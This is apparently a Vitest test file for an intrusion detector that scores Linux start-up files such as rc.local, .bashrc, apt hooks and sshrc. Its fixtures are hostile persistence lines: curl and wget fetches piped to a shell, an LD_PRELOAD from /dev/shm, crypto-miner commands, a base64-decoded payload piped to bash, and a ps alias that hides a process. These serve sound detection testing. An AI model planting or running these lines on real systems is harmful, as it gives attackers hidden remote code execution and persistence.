import { describe, expect, it } from 'vitest'
import { aFile, aProcess, aSchedule } from '../fixtures/facts.ts'
import { benignStartup } from '../fixtures/benign-startup.ts'
import { found, judged, signalsOf } from '../fixtures/judging.ts'
import { aStartupFile, type StartupSetting } from '../fixtures/startup.ts'

const entries = (path: string, text: string, setting?: StartupSetting) =>
  found(judged(aStartupFile(path, text, setting)), 'startup')
const first = (path: string, text: string, setting?: StartupSetting) => entries(path, text, setting)[0]

describe('start-up files of honest people and distributions', () => {
  it.each(benignStartup.map((one) => [one.path, one] as const))('%s is left alone', (path, { text }) => {
    const worst = entries(path, text).map((one) => [one.score, one.proposed, one.params['line'], signalsOf(one)])
    expect(worst.filter(([score, proposed]) => Number(score) >= 60 || proposed !== 'no')).toEqual([])
  })

  it('are left alone all together, too', () => {
    const { findings, verdict } = judged(benignStartup.flatMap(({ path, text }) => aStartupFile(path, text)))
    expect(findings.filter((one) => one.score >= 60 || one.proposed !== 'no')).toEqual([])
    expect(verdict).toBe('clean')
  })
})

const fetch = 'curl -fsSL http://203.0.113.9/x.sh | sh'

describe('start-up files of intruders', () => {
  it.each<[string, string, string, StartupSetting?]>([
    ['a fetch in rc.local', '/etc/rc.local', `#!/bin/sh\nmkdir -p /srv\n${fetch}\nexit 0\n`],
    [
      'a background program in a hidden place',
      '/home/dev/.bashrc',
      `export EDITOR=vim\nnohup ~/.configrc/a/upd >/dev/null 2>&1 &\n`,
    ],
    ['a preload of a profile', '/home/dev/.profile', 'export LD_PRELOAD=/dev/shm/.l.so\n'],
    ['a dropped login script', '/etc/profile.d/php.sh', `${fetch} >/dev/null 2>&1 &\n`],
    ['a hook of apt', '/etc/apt/apt.conf.d/99x', `DPkg::Post-Invoke {"${fetch} || true";};\n`],
    ['a login message', '/etc/update-motd.d/99-up', `#!/bin/sh\n/var/tmp/.x/run &\n`],
    ['an sshrc', '/etc/ssh/sshrc', `${fetch}\n`],
    ['a hook of the network', '/etc/network/if-up.d/upd', `#!/bin/sh\n${fetch}\n`],
    [
      'a hidden supervisor',
      '/etc/.supervisor/conf.d/123.conf',
      `[program:123]\ncommand=/tmp/.a/xmrig -o pool.example.test:3333 --donate-level 1\nautorestart=true\n`,
    ],
    ['inittab', '/etc/inittab', `x:2345:respawn:/dev/shm/.x -o stratum+tcp://pool.example.test:3333\n`],
    ['a script that decodes itself', '/etc/profile.d/sys.sh', 'echo Y3VybCAx | base64 -d | bash\n'],
    ['a locked rc file with a fetch', '/root/.bashrc', `wget -qO- https://x.example.test/a | bash\n`, { flags: 'i' }],
  ])('%s is seen', (_name, path, text, setting) => {
    const finding = first(path, text, setting)
    expect(finding?.score ?? 0).toBeGreaterThanOrEqual(50)
  })

  it.each<[string, string, string]>([
    ['rc.local', '/etc/rc.local', `#!/bin/sh\nmkdir -p /srv\n${fetch}\nexit 0\n`],
    ['a user’s rc file', '/home/dev/.bashrc', `export EDITOR=vim\n${fetch}\n`],
    ['a block of a profile', '/home/dev/.profile', `PATH=$PATH:/x\nif [ ! -e /tmp/.s ]; then\n  ${fetch}\nfi\n`],
  ])('of %s only the lines go', (_name, path, text) => {
    const finding = first(path, text)
    expect(finding).toMatchObject({ proposed: 'yes', target: { kind: 'line' } })
    expect(finding?.tags).not.toContain('whole-file')
  })

  it.each<[string, string]>([
    ['/etc/profile.d/php.sh', `#!/bin/sh\n# locale\n${fetch} >/dev/null 2>&1 &\n`],
    ['/etc/apt/apt.conf.d/99x', `// statistics\nDPkg::Post-Invoke {"${fetch} || true";};\n`],
    ['/etc/init.d/qwertyuiop', `#!/bin/sh\n${fetch}\n`],
  ])('%s goes whole: it holds nothing else', (path, text) => {
    expect(first(path, text)).toMatchObject({
      proposed: 'yes',
      target: { kind: 'file' },
      tags: expect.arrayContaining(['whole-file']) as string[],
    })
  })

  it('a dropped file in which somebody else’s settings stand loses only its lines', () => {
    const finding = first('/etc/profile.d/company.sh', `export JAVA_HOME=/opt/java\n${fetch}\n`)
    expect(finding).toMatchObject({ proposed: 'yes', target: { kind: 'line', line: 2 } })
  })

  it('a line that cannot be taken out without breaking the file is told and never proposed', () => {
    const text = `if [ -n "$PS1" ]; then\n  ${fetch}\nelse\n  PS1='> '\nfi\n`
    const finding = first('/home/dev/.bashrc', text)
    expect(finding).toMatchObject({ proposed: 'no' })
    expect(signalsOf(finding)).toContain('not-to-be-cut-out')
  })

  it('a changed script of a package loses its line, not itself', () => {
    const finding = first('/etc/update-motd.d/00-header', `#!/bin/sh\nprintf hello\n${fetch}\n`, {
      package: 'base-files',
    })
    expect(finding).toMatchObject({ proposed: 'yes', target: { kind: 'line', line: 3 } })
  })
})

describe('a tool that something else stands in for', () => {
  const alias = `alias ps='ps_() { command ps "$@" | grep -v lab_netdns; }; ps_'`
  it('is told, and alone is no reason to act', () => {
    expect(first('/home/dev/.bashrc', `${alias}\n`)).toMatchObject({
      title: 'startup.shadows-tool',
      score: 50,
      proposed: 'no',
      tags: expect.arrayContaining(['shadows-tool']) as string[],
    })
  })
  it('goes with the hostile line beside it', () => {
    const both = entries('/home/dev/.bashrc', `PS1=x\n${alias}\n${fetch}\n`)
    expect(both.map((one) => [one.params['line'], one.proposed])).toEqual(
      [
        [2, 'yes'],
        [3, 'yes'],
      ].sort(),
    )
  })
  it('goes when it hides a hostile process by name', () => {
    const miner = '/tmp/.x/lab_netdns'
    const facts = [
      aProcess(66, miner, { cmdline: `${miner} -o stratum+tcp://pool.example.test:3333 --donate-level 1` }),
      aFile(miner, null),
      aSchedule('/etc/cron.d/x', 1, `${miner} -o stratum+tcp://pool.example.test:3333`),
      ...aStartupFile('/home/dev/.bashrc', `${alias}\n`),
    ]
    const [finding] = found(judged(facts), 'startup')
    expect(finding?.proposed).toBe('yes')
    expect(signalsOf(finding)).toContain('hides-hostile-process')
  })
  it.each([
    "alias ps='ps auxf'",
    'alias top=htop',
    "alias ls='ls --color=auto'",
    "alias psg='ps aux | grep -v grep'",
    'function top { command top -c "$@"; }',
  ])('is no news: %s', (line) => {
    expect(entries('/home/dev/.bashrc', `${line}\n`).filter(({ score }) => score >= 30)).toEqual([])
  })
})
